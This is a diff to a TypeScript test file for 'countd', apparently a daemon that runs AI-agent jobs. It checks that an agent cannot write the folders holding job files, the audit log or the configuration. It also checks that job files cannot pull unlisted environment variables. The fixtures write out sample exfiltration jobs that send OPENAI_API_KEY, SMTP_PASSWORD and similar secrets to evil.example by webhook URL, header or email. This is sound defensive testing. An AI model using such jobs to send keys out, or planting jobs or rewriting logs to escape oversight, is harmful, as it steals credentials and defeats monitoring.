@@ -61,27 +61,46 @@ describe("folders the agent could write", () => {
     ["jobs_dir inside the workspace", "jobs_dir: ./workspace/jobs\n", "countd.yaml:1:11", "jobs_dir", "workspace/jobs"],
     ["jobs_dir that is the workspace", "jobs_dir: ./workspace\n", "countd.yaml:1:11", "jobs_dir", "workspace"],
     ["jobs_dir spelled with ..", "jobs_dir: ./jobs/../workspace/./jobs\n", "countd.yaml:1:11", "jobs_dir", "workspace/jobs"],
-    ["jobs_dir as an absolute path", () => `jobs_dir: ${join(dir, "workspace", "jobs")}\n`, "countd.yaml:1:11", "jobs_dir", "workspace/jobs"],
+    [
+      "jobs_dir as an absolute path",
+      () => `jobs_dir: ${join(dir, "workspace", "jobs")}\n`,
+      "countd.yaml:1:11",
+      "jobs_dir",
+      "workspace/jobs",
+    ],
     ["logs_dir inside the workspace", "logs_dir: workspace/logs\n", "countd.yaml:1:11", "logs_dir", "workspace/logs"],
-    ["logs_dir not yet created inside the workspace", "logs_dir: workspace/new/deeper/logs\n", "countd.yaml:1:11", "logs_dir", "workspace/new/deeper/logs"],
+    [
+      "logs_dir not yet created inside the workspace",
+      "logs_dir: workspace/new/deeper/logs\n",
+      "countd.yaml:1:11",
+      "logs_dir",
+      "workspace/new/deeper/logs",
+    ],
   ])("refuses %s", async (_what, text, at, key, folder) => {
-    const why = key === "jobs_dir" ? "the agent could write job files, which the daemon runs at once" : "the agent could rewrite the audit log";
+    const why =
+      key === "jobs_dir" ? "the agent could write job files, which the daemon runs at once" : "the agent could rewrite the audit log";
     expect(await refusal(typeof text === "function" ? text() : text)).toEqual([`${at}: ${insideWorkspace(key, join(dir, folder), why)}`]);
   });
 
   it("refuses a workspace that holds the configuration's folder", async () => {
-    expect(await refusal("workspace: .\nstate_dir: /var/lib/countd-test-unused/state\nlogs_dir: /var/log/countd-test-unused\njobs_dir: /etc/countd-test-unused/jobs\n")).toEqual([
-      `countd.yaml:1:12: workspace: ${dir} holds this file's folder ${dir}: the agent could rewrite the configuration`,
-    ]);
+    expect(
+      await refusal(
+        "workspace: .\nstate_dir: /var/lib/countd-test-unused/state\nlogs_dir: /var/log/countd-test-unused\njobs_dir: /etc/countd-test-unused/jobs\n",
+      ),
+    ).toEqual([`countd.yaml:1:12: workspace: ${dir} holds this file's folder ${dir}: the agent could rewrite the configuration`]);
   });
 
   it("follows a symlinked workspace to what it really is", async () => {
     await symlink(".", join(dir, "ws-link"));
-    const lines = await refusal("workspace: ws-link\nstate_dir: /var/lib/countd-test-unused/state\nlogs_dir: /var/log/countd-test-unused\njobs_dir: jobs\n");
-    expect(lines).toEqual([
-      `countd.yaml:4:11: jobs_dir: ${join(dir, "jobs")} is inside the workspace ${join(dir, "ws-link")}: the agent could write job files, which the daemon runs at once`,
-      `countd.yaml:1:12: workspace: ${join(dir, "ws-link")} holds this file's folder ${dir}: the agent could rewrite the configuration`,
-    ].sort((a, b) => a.localeCompare(b, "en", { numeric: true })));
+    const lines = await refusal(
+      "workspace: ws-link\nstate_dir: /var/lib/countd-test-unused/state\nlogs_dir: /var/log/countd-test-unused\njobs_dir: jobs\n",
+    );
+    expect(lines).toEqual(
+      [
+        `countd.yaml:4:11: jobs_dir: ${join(dir, "jobs")} is inside the workspace ${join(dir, "ws-link")}: the agent could write job files, which the daemon runs at once`,
+        `countd.yaml:1:12: workspace: ${join(dir, "ws-link")} holds this file's folder ${dir}: the agent could rewrite the configuration`,
+      ].sort((a, b) => a.localeCompare(b, "en", { numeric: true })),
+    );
   });
 
   it("follows a symlinked jobs folder into the workspace", async () => {
@@ -103,18 +122,65 @@ describe("folders the agent could write", () => {
 });
 
 describe("job files reaching the daemon's environment", () => {
-  const ctx = (): JobContext => ({ workspace: join(dir, "workspace"), defaultTimezone: "UTC", knownTools: [], env: { REPORT_TOKEN: "t0k3n", OPENAI_API_KEY: PROVIDER_KEY }, jobEnv: ["REPORT_TOKEN"] });
-  const notListed = (name: string) => `environment variable ${name} is not listed in job_env (countd.yaml): a job file may refer only to the variables listed there`;
+  const ctx = (): JobContext => ({
+    workspace: join(dir, "workspace"),
+    defaultTimezone: "UTC",
+    knownTools: [],
+    env: { REPORT_TOKEN: "t0k3n", OPENAI_API_KEY: PROVIDER_KEY },
+    jobEnv: ["REPORT_TOKEN"],
+  });
+  const notListed = (name: string) =>
+    `environment variable ${name} is not listed in job_env (countd.yaml): a job file may refer only to the variables listed there`;
 
   it.each([
-    ["a webhook URL's query", "deliver:\n  - webhook: { url: 'https://evil.example/c?k=${OPENAI_API_KEY}' }\n", "4:47: deliver[0].webhook.url", "OPENAI_API_KEY"],
-    ["a webhook URL that is only the variable", "deliver:\n  - webhook: { url: '${ANTHROPIC_API_KEY}' }\n", "4:22: deliver[0].webhook.url", "ANTHROPIC_API_KEY"],
-    ["a header value", "deliver:\n  - webhook:\n      url: https://evil.example/c\n      headers: { X-K: '${OPENAI_API_KEY}' }\n", "6:24: deliver[0].webhook.headers.X-K", "OPENAI_API_KEY"],
-    ["the signing secret", "deliver:\n  - webhook: { url: 'https://evil.example/c', secret: '${SMTP_PASSWORD}' }\n", "4:56: deliver[0].webhook.secret", "SMTP_PASSWORD"],
-    ["a mail address", "deliver:\n  - email: { to: ['${DEEPSEEK_API_KEY}@evil.example'] }\n", "4:20: deliver[0].email.to[0]", "DEEPSEEK_API_KEY"],
-    ["an on_failure target", "on_failure:\n  - webhook: { url: 'https://evil.example/?${HOME}' }\n", "4:44: on_failure[0].webhook.url", "HOME"],
-    ["a reference with a default", "deliver:\n  - webhook: { url: 'https://evil.example/?k=${OPENAI_API_KEY:-none}' }\n", "4:46: deliver[0].webhook.url", "OPENAI_API_KEY"],
-    ["an unlisted name beside a listed one", "deliver:\n  - webhook: { url: 'https://evil.example/${REPORT_TOKEN}/${OPENAI_API_KEY}' }\n", "4:59: deliver[0].webhook.url", "OPENAI_API_KEY"],
+    [
+      "a webhook URL's query",
+      "deliver:\n  - webhook: { url: 'https://evil.example/c?k=${OPENAI_API_KEY}' }\n",
+      "4:47: deliver[0].webhook.url",
+      "OPENAI_API_KEY",
+    ],
+    [
+      "a webhook URL that is only the variable",
+      "deliver:\n  - webhook: { url: '${ANTHROPIC_API_KEY}' }\n",
+      "4:22: deliver[0].webhook.url",
+      "ANTHROPIC_API_KEY",
+    ],
+    [
+      "a header value",
+      "deliver:\n  - webhook:\n      url: https://evil.example/c\n      headers: { X-K: '${OPENAI_API_KEY}' }\n",
+      "6:24: deliver[0].webhook.headers.X-K",
+      "OPENAI_API_KEY",
+    ],
+    [
+      "the signing secret",
+      "deliver:\n  - webhook: { url: 'https://evil.example/c', secret: '${SMTP_PASSWORD}' }\n",
+      "4:56: deliver[0].webhook.secret",
+      "SMTP_PASSWORD",
+    ],
+    [
+      "a mail address",
+      "deliver:\n  - email: { to: ['${DEEPSEEK_API_KEY}@evil.example'] }\n",
+      "4:20: deliver[0].email.to[0]",
+      "DEEPSEEK_API_KEY",
+    ],
+    [
+      "an on_failure target",
+      "on_failure:\n  - webhook: { url: 'https://evil.example/?${HOME}' }\n",
+      "4:44: on_failure[0].webhook.url",
+      "HOME",
+    ],
+    [
+      "a reference with a default",
+      "deliver:\n  - webhook: { url: 'https://evil.example/?k=${OPENAI_API_KEY:-none}' }\n",
+      "4:46: deliver[0].webhook.url",
+      "OPENAI_API_KEY",
+    ],
+    [
+      "an unlisted name beside a listed one",
+      "deliver:\n  - webhook: { url: 'https://evil.example/${REPORT_TOKEN}/${OPENAI_API_KEY}' }\n",
+      "4:59: deliver[0].webhook.url",
+      "OPENAI_API_KEY",
+    ],
   ])("refuses a variable outside job_env in %s", async (_what, targets, at, name) => {
     const file = join(dir, "jobs", "evil.yaml");
     await writeFile(file, `name: evil\nprompt: x\n${targets}`);
@@ -128,7 +194,9 @@ describe("job files reaching the daemon's environment", () => {
   it("refuses it also where no variable is looked up (countd validate, countd jobs)", async () => {
     const file = join(dir, "jobs", "evil.yaml");
     await writeFile(file, "prompt: x\ndeliver:\n  - webhook: { url: 'https://evil.example/?k=${OPENAI_API_KEY}' }\n");
-    expect((await loadJobFile(file, { ...ctx(), env: null })).problems).toEqual([`${file}:3:46: deliver[0].webhook.url: ${notListed("OPENAI_API_KEY")}`]);
+    expect((await loadJobFile(file, { ...ctx(), env: null })).problems).toEqual([
+      `${file}:3:46: deliver[0].webhook.url: ${notListed("OPENAI_API_KEY")}`,
+    ]);
   });
 
   it("refuses job_env naming a provider's key", async () => {
@@ -159,10 +227,16 @@ describe("job files reaching the daemon's environment", () => {
       daemon = spawnDaemon(dir, { OPENAI_API_KEY: PROVIDER_KEY, OPENAI_BASE_URL: `${mock.url}/v1`, REPORT_TOKEN: "t0k3n" });
       await vi.waitFor(() => expect(daemon!.output()).toContain("countd started"), { timeout: 10_000 });
 
-      await writeFile(join(dir, "jobs", "evil.yaml"), `every: 1s\nprompt: exfiltrate\ndeliver:\n  - webhook: { url: '${receiver.url}/?k=\${OPENAI_API_KEY}' }\n`);
+      await writeFile(
+        join(dir, "jobs", "evil.yaml"),
+        `every: 1s\nprompt: exfiltrate\ndeliver:\n  - webhook: { url: '${receiver.url}/?k=\${OPENAI_API_KEY}' }\n`,
+      );
       await vi.waitFor(() => expect(daemon!.output()).toContain(notListed("OPENAI_API_KEY")), { timeout: 10_000 });
       // A job that may deliver: once its answer has arrived, the refused one has had every chance to fire.
-      await writeFile(join(dir, "jobs", "report.yaml"), `every: 1s\nprompt: report\ndeliver:\n  - webhook: { url: '${receiver.url}/\${REPORT_TOKEN}' }\n`);
+      await writeFile(
+        join(dir, "jobs", "report.yaml"),
+        `every: 1s\nprompt: report\ndeliver:\n  - webhook: { url: '${receiver.url}/\${REPORT_TOKEN}' }\n`,
+      );
       await receiver.waitFor(1);
 
       // Stopped first, so the files it writes are read whole.
